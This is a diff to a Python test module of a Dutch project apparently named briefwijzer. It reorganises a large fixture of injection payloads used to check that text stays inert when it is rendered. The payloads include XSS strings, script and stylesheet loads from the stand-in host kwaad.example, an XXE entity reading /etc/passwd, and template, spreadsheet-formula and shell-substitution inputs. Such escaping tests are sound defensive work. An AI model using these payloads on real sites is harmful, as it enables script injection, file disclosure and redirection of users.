@@ -8,6 +8,7 @@ its paragraph, its note and every quotation of them, because those have to agree
 
 import hashlib
 import json
+import os
 import re
 import types
 import typing
@@ -32,44 +33,51 @@ from briefwijzer.words.dutch import in_digits
 
 # Each would call boe(), ask kwaad.example for something, make an element, change the page or be worked out, if it were
 # not text. (An element may have an x of its own, so that x() is no name for what an attack calls.)
+# These leave each place in which a text may stand, by each way out of it, and mean something to each reader of a text.
 PAYLOADS = (
     # elements
-    "<script>boe()</script>", "<ScRiPt>boe()</sCrIpT>", "<script src=https://kwaad.example/x.js></script>",
-    "<scr<script>ipt>boe()</scr</script>ipt>", "<img src=x onerror=boe()>",
-    "<img/src/onerror=boe()>", "<svg onload=boe()>",
-    "<svg><animate onbegin=boe() attributeName=x dur=1s>",
-    "<svg><style><img src=x onerror=boe()></style></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=boe()>",
-    "<iframe srcdoc='<script>parent.boe()</script>'>",
-    "<object data=javascript:boe()>", "<embed src=//kwaad.example/x.svg>", "<base href=https://kwaad.example/>",
-    "<meta http-equiv=refresh content=1;url=https://kwaad.example/>",
-    "<link rel=stylesheet href=https://kwaad.example/x.css>", "<style>@import '//kwaad.example/x.css';</style>",
-    "<body onload=boe()>", "<frameset onload=boe()>", "<image src=x onerror=boe()>", "<details open ontoggle=boe()>",
-    "<input autofocus onfocus=boe()>", "<a href=javascript:boe()>klik</a>", "<x-kwaad onclick=boe()>x",
-    "<form action=https://kwaad.example/><button>x</button></form>",
+    "<script>boe()</script>", "<img/src/onerror=boe()>", "<svg onload=boe()>", "<base href=https://kwaad.example/>",
+    "<iframe srcdoc='<script>parent.boe()</script>'>", "<a href=javascript:boe()>klik</a>",
     # ends of what may be around it
     "</title><script>boe()</script>", "</script><script>boe()</script>",
     "</textarea><script>boe()</script>", "</p></div></main><h1>x</h1>",
-    "<plaintext>", "<noscript><p title='</noscript><img src=x onerror=boe()>'>", "<!--", "-->",
-    "<!--><b>x", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "<![CDATA[<b>x</b>]]>", "]]><b>x</b>",
-    "<?xml version='1.0'?>",
+    "<plaintext>", "<!--", "-->", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "]]><b>x</b>",
     # attributes
     '"><script>boe()</script>', "'><script>boe()</script>", '" onmouseover="boe()', "' onfocus='boe()' autofocus='",
-    '" autofocus onfocus=boe() x="', "\\\"-boe()-\\\"", "${boe()}",
+    "\\\"-boe()-\\\"", "${boe()}",
     # entities and encodings
-    "&lt;script&gt;boe()&lt;/script&gt;", "&#60;img src=x onerror=boe()&#62;",
-    "\\u003cscript\\u003eboe()\\u003c/script\\u003e", "＜script＞boe()＜/script＞", "&nbsp&copy&lt",
+    "&lt;script&gt;boe()&lt;/script&gt;", "\\u003cscript\\u003eboe()\\u003c/script\\u003e",
+    "＜script＞boe()＜/script＞", "&nbsp&copy&lt",
     # addresses
-    "javascript:boe()", "&#106;avascript:boe()", "data:text/html,<script>boe()</script>",
-    "//kwaad.example/", "\\\\kwaad.example\\x", "https://kwaad.example/<b>x",
+    "javascript:boe()", "//kwaad.example/", "https://kwaad.example/<b>x",
     # Markdown and templates
-    "[x](javascript:boe())", "![x](https://kwaad.example/x.png)", "<https://kwaad.example/>", "{: onclick=boe() }",
-    "[^1] [[x]]", '--8<-- "mkdocs.yml"', "{{ 7*7 }} {% include 'x' %} {# x #}", "# kop", "1986. **vet** _x_ `x`",
-    "*[AB]: x",
+    "[x](javascript:boe())", "<https://kwaad.example/>", "{: onclick=boe() }", "[^1] [[x]]", '--8<-- "mkdocs.yml"',
+    "{{ 7*7 }} {% include 'x' %} {# x #}", "# kop", "1986. **vet** _x_ `x`", "*[AB]: x",
     # spreadsheets, bibliographies and shells
     "=HYPERLINK(\"https://kwaad.example/\")", "+boe()", "-boe()", "@SUM(A1:A9)", "a;=1+1", "} @misc{x, title={x}",
     "$(x) `x` | x",
 )  # fmt: skip
+# Others that would do something once they are out, as the former do. ``make audit`` builds a site of all.
+MORE_PAYLOADS = (
+    # elements
+    "<ScRiPt>boe()</sCrIpT>", "<script src=https://kwaad.example/x.js></script>",
+    "<scr<script>ipt>boe()</scr</script>ipt>", "<img src=x onerror=boe()>",
+    "<svg><animate onbegin=boe() attributeName=x dur=1s>", "<svg><style><img src=x onerror=boe()></style></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=boe()>", "<object data=javascript:boe()>",
+    "<embed src=//kwaad.example/x.svg>", "<meta http-equiv=refresh content=1;url=https://kwaad.example/>",
+    "<link rel=stylesheet href=https://kwaad.example/x.css>", "<style>@import '//kwaad.example/x.css';</style>",
+    "<body onload=boe()>", "<frameset onload=boe()>", "<image src=x onerror=boe()>", "<details open ontoggle=boe()>",
+    "<input autofocus onfocus=boe()>", "<x-kwaad onclick=boe()>x",
+    "<form action=https://kwaad.example/><button>x</button></form>",
+    "<noscript><p title='</noscript><img src=x onerror=boe()>'>", "<!--><b>x", "<![CDATA[<b>x</b>]]>",
+    "<?xml version='1.0'?>",
+    # attributes, entities, addresses
+    '" autofocus onfocus=boe() x="', "&#60;img src=x onerror=boe()&#62;", "&#106;avascript:boe()",
+    "data:text/html,<script>boe()</script>", "\\\\kwaad.example\\x", "![x](https://kwaad.example/x.png)",
+)  # fmt: skip
+EVERY_PAYLOAD = PAYLOADS + MORE_PAYLOADS
+if os.environ.get("AUDIT"):
+    PAYLOADS = EVERY_PAYLOAD
 
 # A text of another kind with the same blanks: what a page looks like when nothing is hostile.
 HARMLESS = tuple(re.sub(r"[^A-Za-z0-9 ]", "o", payload) for payload in PAYLOADS)
